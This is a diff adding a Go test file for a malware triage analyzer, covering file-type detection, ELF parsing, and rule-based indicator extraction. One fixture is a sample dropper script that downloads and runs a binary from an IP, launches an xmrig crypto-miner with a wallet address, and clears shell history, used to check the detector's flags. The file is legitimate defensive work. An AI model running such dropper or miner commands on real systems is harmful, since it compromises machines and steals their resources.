@@ -0,0 +1,238 @@
+package triage
+
+import (
+	"bytes"
+	"debug/elf"
+	"encoding/binary"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+// minimalELF returns an ELF header with no sections or program headers.
+func minimalELF(t *testing.T, machine elf.Machine, byteOrder binary.ByteOrder) []byte {
+	t.Helper()
+
+	data := elf.ELFDATA2LSB
+	if byteOrder == binary.BigEndian {
+		data = elf.ELFDATA2MSB
+	}
+
+	header := elf.Header32{
+		Type:    uint16(elf.ET_EXEC),
+		Machine: uint16(machine),
+		Version: uint32(elf.EV_CURRENT),
+		Entry:   0x400000,
+		Ehsize:  52,
+	}
+	copy(header.Ident[:], elf.ELFMAG)
+	header.Ident[elf.EI_CLASS] = byte(elf.ELFCLASS32)
+	header.Ident[elf.EI_DATA] = byte(data)
+	header.Ident[elf.EI_VERSION] = byte(elf.EV_CURRENT)
+
+	buf := &bytes.Buffer{}
+	assert.NoError(t, binary.Write(buf, byteOrder, header))
+	return buf.Bytes()
+}
+
+func TestAnalyzer_Analyze(t *testing.T) {
+	mips := minimalELF(t, elf.EM_MIPS, binary.BigEndian)
+
+	cases := map[string]struct {
+		data     []byte
+		wantKind string
+		wantType string
+	}{
+		"elf": {
+			data:     mips,
+			wantKind: KindELF,
+			wantType: "ELF 32-bit MSB executable, MIPS, statically linked, stripped",
+		},
+		"shebang": {
+			data:     []byte("#!/bin/sh\necho hi\n"),
+			wantKind: KindShellScript,
+			wantType: "/bin/sh script text executable",
+		},
+		"env shebang": {
+			data:     []byte("#!/usr/bin/env python3\nprint(1)\n"),
+			wantKind: KindScript,
+			wantType: "python3 script text executable",
+		},
+		"shell without shebang": {
+			data:     []byte("cd /tmp\nwget http://192.0.2.1/x\nchmod +x x\n"),
+			wantKind: KindShellScript,
+			wantType: "POSIX shell script text",
+		},
+		"gzip": {
+			data:     []byte{0x1f, 0x8b, 0x08, 0x00},
+			wantKind: KindArchive,
+			wantType: "gzip compressed data",
+		},
+		"pe": {
+			data:     []byte("MZ\x90\x00"),
+			wantKind: KindPE,
+			wantType: "MS-DOS executable",
+		},
+		"text": {
+			data:     []byte("hello world\n"),
+			wantKind: KindText,
+			wantType: "ASCII text",
+		},
+		"data": {
+			data:     []byte{0x00, 0x01, 0x02},
+			wantKind: KindData,
+			wantType: "data",
+		},
+	}
+
+	for tn, tc := range cases {
+		t.Run(tn, func(t *testing.T) {
+			got := Default().Analyze(tc.data)
+			assert.Equal(t, tc.wantKind, got.Kind)
+			assert.Equal(t, tc.wantType, got.FileType)
+		})
+	}
+
+	elfInfo := Default().Analyze(mips).ELF
+	assert.Equal(t, 32, elfInfo.Bits)
+	assert.Equal(t, "big", elfInfo.Endianness)
+	assert.Equal(t, "EM_MIPS", elfInfo.Machine)
+	assert.Equal(t, uint64(0x400000), elfInfo.Entry)
+}
+
+func TestAnalyzer_Analyze_malformedELF(t *testing.T) {
+	// A 64-bit header with a PT_INTERP segment claiming to be far larger than
+	// the file.
+	header := elf.Header64{
+		Type:      uint16(elf.ET_EXEC),
+		Machine:   uint16(elf.EM_X86_64),
+		Version:   uint32(elf.EV_CURRENT),
+		Phoff:     64,
+		Ehsize:    64,
+		Phentsize: 56,
+		Phnum:     1,
+	}
+	copy(header.Ident[:], elf.ELFMAG)
+	header.Ident[elf.EI_CLASS] = byte(elf.ELFCLASS64)
+	header.Ident[elf.EI_DATA] = byte(elf.ELFDATA2LSB)
+	header.Ident[elf.EI_VERSION] = byte(elf.EV_CURRENT)
+	prog := elf.Prog64{
+		Type:   uint32(elf.PT_INTERP),
+		Filesz: 1 << 62,
+		Memsz:  1 << 62,
+	}
+
+	buf := &bytes.Buffer{}
+	assert.NoError(t, binary.Write(buf, binary.LittleEndian, header))
+	assert.NoError(t, binary.Write(buf, binary.LittleEndian, prog))
+
+	var got *Analysis
+	assert.NotPanics(t, func() {
+		got = Default().Analyze(buf.Bytes())
+	})
+	assert.Equal(t, KindELF, got.Kind)
+	assert.Equal(t, "", got.ELF.Interpreter)
+	assert.False(t, got.ELF.Static)
+}
+
+func TestAnalyzer_Indicators(t *testing.T) {
+	script := []byte(`#!/bin/sh
+cd /tmp || cd /var/run
+wget http://192.0.2.1/bins/mips; chmod +x mips; ./mips
+curl -O https://example.com/x86_64
+./xmrig -o stratum+tcp://pool.example.com:3333 -u 0x52908400098527886E0F7030069857D2E4169EE7
+history -c
+`)
+
+	got := Default().Analyze(script)
+	assert.Equal(t, []string{"http://192.0.2.1/bins/mips", "https://example.com/x86_64"}, got.URLs)
+	assert.Equal(t, []string{"192.0.2.1"}, got.IPs)
+	assert.Equal(t, []string{"ethereum:0x52908400098527886E0F7030069857D2E4169EE7"}, got.WalletAddresses())
+	assert.Equal(t, []string{"xmrig-miner", "multi-arch-dropper", "history-cleaner"}, got.RuleNames())
+	assert.Equal(t, []string{"defense-evasion", "dropper", "miner"}, got.Tags())
+	assert.Contains(t, got.Strings, "history -c")
+}
+
+func TestAnalyzer_AnalyzeReader(t *testing.T) {
+	got, err := Default().AnalyzeReader(bytes.NewReader(make([]byte, MaxAnalyzedBytes+1)))
+	assert.NoError(t, err)
+	assert.True(t, got.Truncated)
+	assert.Equal(t, KindData, got.Kind)
+}
+
+func TestParseRules(t *testing.T) {
+	cases := map[string]struct {
+		rules   string
+		data    string
+		want    bool
+		wantErr bool
+	}{
+		"text": {
+			rules: `[{name: r, strings: [{text: abc}]}]`,
+			data:  "xxabcxx",
+			want:  true,
+		},
+		"nocase": {
+			rules: `[{name: r, strings: [{text: ABC, nocase: true}]}]`,
+			data:  "xxabcxx",
+			want:  true,
+		},
+		"hex": {
+			rules: `[{name: r, strings: [{hex: "61 62 63"}]}]`,
+			data:  "abc",
+			want:  true,
+		},
+		"regex": {
+			rules: `[{name: r, strings: [{regex: "a.c"}]}]`,
+			data:  "axc",
+			want:  true,
+		},
+		"all of them": {
+			rules: `[{name: r, strings: [{text: a}, {text: z}], condition: all of them}]`,
+			data:  "abc",
+			want:  false,
+		},
+		"n of them": {
+			rules: `[{name: r, strings: [{text: a}, {text: b}, {text: z}], condition: 2 of them}]`,
+			data:  "abc",
+			want:  true,
+		},
+		"bad condition": {
+			rules:   `[{name: r, strings: [{text: a}], condition: 2 of them}]`,
+			wantErr: true,
+		},
+		"multiple patterns": {
+			rules:   `[{name: r, strings: [{text: a, hex: "61"}]}]`,
+			wantErr: true,
+		},
+		"no strings": {
+			rules:   `[{name: r}]`,
+			wantErr: true,
+		},
+		"bad hex": {
+			rules:   `[{name: r, strings: [{hex: "6"}]}]`,
+			wantErr: true,
+		},
+	}
+
+	for tn, tc := range cases {
+		t.Run(tn, func(t *testing.T) {
+			rules, err := ParseRules([]byte(tc.rules))
+			var analyzer *Analyzer
+			if err == nil {
+				analyzer, err = New(rules)
+			}
+			if tc.wantErr {
+				assert.Error(t, err)
+				return
+			}
+			assert.NoError(t, err)
+			assert.Equal(t, tc.want, len(analyzer.Analyze([]byte(tc.data)).Matches) == 1)
+		})
+	}
+}
+
+func TestBuiltinRules(t *testing.T) {
+	_, err := New(BuiltinRules())
+	assert.NoError(t, err)
+}